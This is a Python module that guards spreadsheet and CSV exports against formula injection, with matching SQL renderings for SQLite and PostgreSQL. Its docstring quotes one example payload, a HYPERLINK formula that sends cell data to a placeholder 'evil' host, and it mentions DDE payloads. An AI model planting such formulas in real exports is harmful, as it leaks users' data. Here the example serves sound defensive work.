"""Text that a spreadsheet must not evaluate: the one rule every export writer applies.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@`
as a formula (`=HYPERLINK("http://evil/?"&A1)` sends the sheet away; a DDE payload runs
a program), also after leading spaces or quotes, and a leading tab or line break hides
what follows. Following OWASP's CSV-injection advice, such a cell gets a leading `'`:
spreadsheets show it as text, and a user who edits the cell keeps it text.

`spreadsheet_text` is the rule. CSV quoting lives here too (`csv_field`, `csv_line`): the
machine CSV's lines can be built by the database (billing.sqlcsv), so `guard_sql` and
`quoted_sql` render the same two rules as SQL, from the same characters; tests hold each
pair equal on both databases.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
"""Characters that begin a formula, with their full-width forms (East Asian input)."""
HIDING_STARTS = frozenset("\t\r\n")
"""A cell starting with one of these is neutralised whatever follows (OWASP: tab, CR)."""
PADDING = " \t\r\n\"'"
"""Skipped before looking for a formula character: spreadsheets skip them too."""
NEUTRAL_PREFIX = "'"


def spreadsheet_text(value: str) -> str:
    """`value` as a cell no spreadsheet evaluates: with a leading `'` where it would."""
    if value and (value[0] in HIDING_STARTS or value.lstrip(PADDING)[:1] in FORMULA_STARTS):
        return NEUTRAL_PREFIX + value
    return value


def _literal(text: str) -> str:
    """A SQL string literal (standard quoting, valid in SQLite and PostgreSQL)."""
    return "'" + text.replace("'", "''") + "'"


def _one_of(chars: frozenset[str]) -> str:
    return "(" + ", ".join(_literal(c) for c in sorted(chars)) + ")"


def _first_char_class(chars: frozenset[str]) -> str:
    """A bracket expression for GLOB and POSIX regexes: `-` last, where it is literal."""
    return "[" + "".join(sorted(chars - {"-"})) + ("-" if "-" in chars else "") + "]"


def _safe_ranges(chars: frozenset[str]) -> list[tuple[str, str]]:
    """[low, high) first-character ranges holding no character of `chars`: the ones of
    letters (and nearly all non-ASCII text) and of digits."""
    ranges = []
    for typical in ("A", "0"):
        low = chr(ord(max(c for c in chars if c < typical)) + 1)
        ranges.append((low, min(c for c in chars if c > typical)))
    return ranges


def guard_sql(value: str, dialect: str) -> str:
    """SQL giving the text column `value` as `spreadsheet_text` would (`dialect`: `sqlite`
    or `postgresql`)."""
    starts = HIDING_STARTS | FORMULA_STARTS | frozenset(PADDING)
    formula = (
        f"substr({value}, 1, 1) IN {_one_of(HIDING_STARTS)}"
        f" OR substr(ltrim({value}, {_literal(PADDING)}), 1, 1) IN {_one_of(FORMULA_STARTS)}"
    )
    guarded = f"{_literal(NEUTRAL_PREFIX)} || {value}"
    if dialect == "sqlite":
        # Nearly every cell starts with a letter or a digit. Text compares byte by byte
        # (BINARY), and UTF-8 keeps code point order, so `v >= low AND v < high` tests
        # the first character without a function call; only other cells pay for the rest.
        safe = " OR ".join(
            f"{value} >= {_literal(low)} AND {value} < {_literal(high)}"
            for low, high in _safe_ranges(starts)
        )
        return f"CASE WHEN {safe} THEN {value} WHEN {formula} THEN {guarded} ELSE {value} END"
    # An anchored regex settles nearly every cell (comparisons would need COLLATE "C").
    maybe = f"{value} ~ {_literal('^' + _first_char_class(starts))}"
    return f"CASE WHEN {maybe} AND ({formula}) THEN {guarded} ELSE {value} END"


CSV_SPECIAL = '"\r\n'
"""Besides the delimiter, what makes a CSV field need quotes (as csv.writer's QUOTE_MINIMAL)."""


def csv_field(value: str, delimiter: str) -> str:
    """One CSV field: quoted, quotes doubled, exactly when it holds the delimiter, a quote
    or a line break."""
    if delimiter in value or any(c in value for c in CSV_SPECIAL):
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_line(fields: Iterable[str], delimiter: str) -> str:
    """A CSV line with its CRLF, as csv.writer writes it (fields already made inert)."""
    return delimiter.join(csv_field(f, delimiter) for f in fields) + "\r\n"


def quoted_sql(value: str, inert: str, delimiter: str, dialect: str) -> str:
    """SQL giving `csv_field` of the text column `value`, whose inert form (`guard_sql`) is
    the SQL `inert`."""
    if delimiter not in (",", ";"):
        raise ValueError("delimiter must be ',' or ';'")
    if dialect == "sqlite":
        special = f"'*[\"{delimiter}' || char(10) || char(13) || ']*'"
        needs_quotes = f"{value} GLOB {special}"
    else:
        needs_quotes = f"{value} ~ '[\"{delimiter}\\r\\n]'"
    return (
        f"CASE WHEN {needs_quotes}"
        f" THEN '\"' || replace({inert}, '\"', '\"\"') || '\"' ELSE {inert} END"
    )
